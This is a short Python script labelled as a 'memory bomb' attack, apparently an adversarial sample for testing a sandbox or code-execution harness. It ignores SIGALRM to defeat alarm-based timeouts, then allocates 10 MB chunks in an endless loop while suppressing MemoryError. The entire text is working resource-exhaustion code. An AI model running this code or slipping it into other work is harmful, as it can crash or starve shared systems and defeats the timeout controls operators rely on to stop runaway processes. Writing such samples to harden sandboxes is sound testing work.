# attack: memory bomb - allocate 10 MB chunks forever, swallowing MemoryError
import signal

signal.signal(signal.SIGALRM, signal.SIG_IGN)
chunks = []
while True:
    try:
        chunks.append(bytearray(10_000_000))
    except MemoryError:
        continue
